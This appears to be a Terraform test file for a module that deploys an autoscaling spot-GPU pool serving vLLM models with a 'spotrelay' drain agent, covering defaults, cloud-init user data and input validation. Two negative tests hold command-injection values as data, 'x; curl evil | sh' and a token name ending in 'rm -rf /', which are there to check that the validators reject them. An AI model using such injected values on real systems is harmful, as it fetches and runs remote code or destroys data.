# Offline tests of the GPU pool's pure logic: run with `terraform test` in
# this module (no provider, nothing created).

variables {
  name                 = "llm"
  region               = "us-east-1"
  router_url           = "http://internal-llm-heartbeat-123.us-east-1.elb.amazonaws.com:8081"
  node_token_parameter = "/spotrelay/llm/node-token"
  model = {
    name = "Qwen/Qwen2.5-7B-Instruct"
  }
}

run "defaults" {
  command = apply

  assert {
    condition     = length(var.instance_types) >= 4 && length(distinct([for t in var.instance_types : split(".", t)[0]])) >= 4
    error_message = "The default instance types must span at least 4 GPU families."
  }

  assert {
    condition     = toset([for t in var.instance_types : split(".", t)[0]]) == toset(["g6", "g5", "g6e", "g4dn"])
    error_message = "The default families are g6, g5, g6e and g4dn."
  }

  assert {
    condition     = output.instance_overrides[0].instance_type == "g6.xlarge"
    error_message = "Overrides keep the preference order."
  }

  assert {
    condition     = output.scaling.max_size == 2 && output.scaling.desired_capacity == 1
    error_message = "max_size defaults to desired_capacity + 1 (headroom for capacity rebalancing)."
  }

  assert {
    condition     = output.scaling.spot_allocation_strategy == "price-capacity-optimized"
    error_message = "Spot allocation must be price-capacity-optimized."
  }

  assert {
    condition     = output.lifecycle_hook.name == "llm-drain" && output.lifecycle_hook.heartbeat_timeout == 120
    error_message = "The lifecycle hook is named <name>-drain with a 120 s heartbeat."
  }

  assert {
    condition     = output.served_model_name == "Qwen/Qwen2.5-7B-Instruct"
    error_message = "The served model name defaults to the model name."
  }

  assert {
    condition     = output.tags["spotrelay:pool"] == "llm" && output.tags["ManagedBy"] == "terraform"
    error_message = "Every resource is tagged with its pool."
  }

  assert {
    condition     = alltrue([for t in output.asg_tags : t.propagate_at_launch])
    error_message = "ASG tags propagate to instances."
  }
}

run "agent_config_uses_agent_keys" {
  command = apply

  assert {
    condition     = jsonencode(yamldecode(output.agent_yaml)) == jsonencode(output.agent_settings)
    error_message = "agent.yaml is the YAML form of agent_settings."
  }

  assert {
    condition     = toset(keys(output.agent_settings)) == toset(["router", "engine", "imds", "heartbeat", "drain", "lifecycle", "metrics", "state_dir", "webhook", "cloudwatch"])
    error_message = "agent.yaml must use AgentConfig's sections only."
  }

  assert {
    condition     = jsonencode(output.agent_settings.router.urls) == jsonencode(["http://internal-llm-heartbeat-123.us-east-1.elb.amazonaws.com:8081"])
    error_message = "The agent registers with the one internal heartbeat endpoint."
  }

  assert {
    condition     = output.agent_settings.router.node_token_file == "/etc/spotrelay/node-token"
    error_message = "The agent reads the node token from the file the bootstrap writes."
  }

  assert {
    condition     = output.agent_settings.engine.url == "http://127.0.0.1:8000" && output.agent_settings.engine.systemd_unit == "vllm.service"
    error_message = "The agent watches the local vLLM on port 8000 and its unit."
  }

  assert {
    condition     = output.agent_settings.lifecycle.asg_name == "llm" && output.agent_settings.lifecycle.hook_name == "llm-drain" && output.agent_settings.lifecycle.region == "us-east-1"
    error_message = "The agent completes the lifecycle hook of this group."
  }

  assert {
    condition     = output.agent_settings.metrics.port == 9101 && output.agent_settings.heartbeat.interval_s == 2
    error_message = "Metrics on 9101, heartbeats every 2 s by default."
  }
}

run "agent_publishes_load_when_asked" {
  command = apply

  variables {
    cloudwatch = {
      enabled    = true
      namespace  = "spotrelay"
      pool       = "llm"
      interval_s = 60
    }
  }

  assert {
    condition     = output.agent_settings.cloudwatch.enabled && output.agent_settings.cloudwatch.pool == "llm"
    error_message = "agent.yaml turns on the load publisher for scaling on load."
  }
}

run "vllm_command_and_unit" {
  command = apply

  variables {
    model = {
      name          = "meta-llama/Llama-3.1-8B-Instruct"
      served_name   = "llama-8b"
      max_model_len = 8192
      extra_args    = ["--enable-prefix-caching"]
    }
    vllm = {
      version            = "0.33.0"
      shutdown_timeout_s = 60
    }
  }

  assert {
    condition     = slice(output.vllm_argv, 0, 3) == ["/opt/vllm/venv/bin/vllm", "serve", "meta-llama/Llama-3.1-8B-Instruct"]
    error_message = "The unit runs `vllm serve <model>` from the pinned virtualenv."
  }

  assert {
    condition     = strcontains(join(" ", output.vllm_argv), "--port 8000") && strcontains(join(" ", output.vllm_argv), "--shutdown-timeout 60")
    error_message = "vLLM listens on 8000 and has a shutdown grace."
  }

  assert {
    condition     = strcontains(join(" ", output.vllm_argv), "--served-model-name llama-8b") && strcontains(join(" ", output.vllm_argv), "--max-model-len 8192")
    error_message = "served name and max_model_len reach the command line."
  }

  assert {
    condition     = output.vllm_argv[length(output.vllm_argv) - 1] == "--enable-prefix-caching"
    error_message = "extra_args come last, verbatim."
  }

  assert {
    condition     = strcontains(output.vllm_unit, "TimeoutStopSec=80") && strcontains(output.vllm_unit, "RequiresMountsFor=/opt/models")
    error_message = "systemd waits longer than vLLM's shutdown grace, and for the model volume."
  }

  assert {
    condition     = output.agent_settings.engine.model == "llama-8b"
    error_message = "The agent waits for the served model name."
  }

  assert {
    condition     = strcontains(output.install_script, "'vllm==0.33.0'") && strcontains(output.install_script, "'spotrelay==0.1.0'")
    error_message = "vLLM and spotrelay are installed at pinned versions."
  }
}

run "user_data_is_cloud_config" {
  command = apply

  variables {
    model = {
      name               = "Qwen/Qwen2.5-7B-Instruct"
      hf_token_parameter = "/spotrelay/hf-token"
    }
    spotrelay = {
      pip_spec = "https://example.com/spotrelay-0.1.0-py3-none-any.whl"
    }
  }

  assert {
    condition     = startswith(output.user_data, "#cloud-config\n")
    error_message = "user data must start with #cloud-config."
  }

  assert {
    condition     = yamldecode(output.user_data).write_files[0].path == "/etc/spotrelay/agent.yaml"
    error_message = "cloud-init writes the agent configuration."
  }

  assert {
    condition     = jsonencode(yamldecode(yamldecode(output.user_data).write_files[0].content)) == jsonencode(output.agent_settings)
    error_message = "The agent.yaml in user data round-trips to agent_settings."
  }

  assert {
    condition     = yamldecode(output.user_data).write_files[1].content == output.vllm_unit
    error_message = "cloud-init writes the vllm unit verbatim."
  }

  assert {
    condition     = strcontains(output.install_script, "systemctl enable --now vllm.service spotrelay-agent.service")
    error_message = "Both units are enabled and started."
  }

  assert {
    condition     = strcontains(output.install_script, "/etc/polkit-1/rules.d/50-spotrelay-agent.rules")
    error_message = "The agent's polkit rule (stop vllm.service) is installed from the package."
  }

  assert {
    condition     = strcontains(output.install_script, "/spotrelay/hf-token") && strcontains(output.install_script, "HF_TOKEN")
    error_message = "The Hugging Face token is fetched when configured."
  }

  assert {
    condition     = strcontains(output.install_script, "'https://example.com/spotrelay-0.1.0-py3-none-any.whl'")
    error_message = "A wheel URL works as the pip spec."
  }

  assert {
    condition     = base64decode(output.user_data_base64) == output.user_data
    error_message = "The base64 form decodes to the user data."
  }
}

run "no_model_volume" {
  command = apply

  variables {
    volumes = {
      model_size_gib = 0
    }
  }

  assert {
    condition     = !output.volumes.has_model_volume && !strcontains(output.vllm_unit, "RequiresMountsFor")
    error_message = "Without a model volume the unit does not wait for a mount."
  }

  assert {
    condition     = strcontains(output.vllm_unit, "HF_HOME=/var/lib/vllm/huggingface")
    error_message = "Without a model volume the cache lives on the root volume."
  }
}

run "explicit_sizes_and_on_demand_base" {
  command = apply

  variables {
    scaling = {
      min_size                                 = 1
      desired_capacity                         = 3
      max_size                                 = 6
      on_demand_base_capacity                  = 1
      on_demand_percentage_above_base_capacity = 25
    }
  }

  assert {
    condition     = output.scaling.max_size == 6 && output.scaling.on_demand_base_capacity == 1 && output.scaling.on_demand_percentage_above_base_capacity == 25
    error_message = "Explicit sizes pass through."
  }
}

# --- negative cases: each must be rejected ---------------------------------

run "rejects_non_gpu_instance_type" {
  command = plan
  variables {
    instance_types = ["g6.xlarge", "m7i.large"]
  }
  expect_failures = [var.instance_types]
}

run "rejects_duplicate_instance_types" {
  command = plan
  variables {
    instance_types = ["g6.xlarge", "g6.xlarge"]
  }
  expect_failures = [var.instance_types]
}

run "rejects_empty_instance_types" {
  command = plan
  variables {
    instance_types = []
  }
  expect_failures = [var.instance_types]
}

run "rejects_long_hook_heartbeat" {
  command = plan
  variables {
    lifecycle_hook = {
      heartbeat_timeout = 300
    }
  }
  expect_failures = [var.lifecycle_hook]
}

run "rejects_on_demand_percentage_over_100" {
  command = plan
  variables {
    scaling = {
      on_demand_percentage_above_base_capacity = 120
    }
  }
  expect_failures = [var.scaling]
}

run "rejects_no_headroom" {
  command = plan
  variables {
    scaling = {
      desired_capacity = 2
      max_size         = 2
    }
  }
  expect_failures = [output.scaling]
}

run "rejects_desired_below_min" {
  command = plan
  variables {
    scaling = {
      min_size         = 3
      desired_capacity = 1
    }
  }
  expect_failures = [output.scaling]
}

run "rejects_shell_characters_in_model" {
  command = plan
  variables {
    model = {
      name = "x; curl evil | sh"
    }
  }
  expect_failures = [var.model]
}

run "rejects_managed_vllm_flags" {
  command = plan
  variables {
    model = {
      name       = "Qwen/Qwen2.5-7B-Instruct"
      extra_args = ["--port=9000"]
    }
  }
  expect_failures = [var.model]
}

run "rejects_shutdown_timeout_beyond_notice" {
  command = plan
  variables {
    vllm = {
      shutdown_timeout_s = 150
    }
  }
  expect_failures = [var.vllm]
}

run "rejects_grace_plus_margin_beyond_notice" {
  command = plan
  variables {
    vllm = {
      shutdown_timeout_s = 110
    }
    spotrelay = {
      safety_margin_s = 20
    }
  }
  expect_failures = [output.lifecycle_hook]
}

run "rejects_unpinned_vllm" {
  command = plan
  variables {
    vllm = {
      version = "latest"
    }
  }
  expect_failures = [var.vllm]
}

run "rejects_router_url_without_scheme" {
  command = plan
  variables {
    router_url = "10.0.1.10:8080"
  }
  expect_failures = [var.router_url]
}

run "rejects_bad_token_parameter" {
  command = plan
  variables {
    node_token_parameter = "node-token'; rm -rf /"
  }
  expect_failures = [var.node_token_parameter]
}

run "rejects_equal_volume_sizes" {
  command = plan
  variables {
    volumes = {
      root_size_gib  = 200
      model_size_gib = 200
    }
  }
  expect_failures = [output.volumes]
}

run "rejects_reserved_tag_prefix" {
  command = plan
  variables {
    tags = {
      "aws:team" = "ml"
    }
  }
  expect_failures = [var.tags]
}

run "rejects_bad_name" {
  command = plan
  variables {
    name = "LLM_Pool"
  }
  expect_failures = [var.name]
}
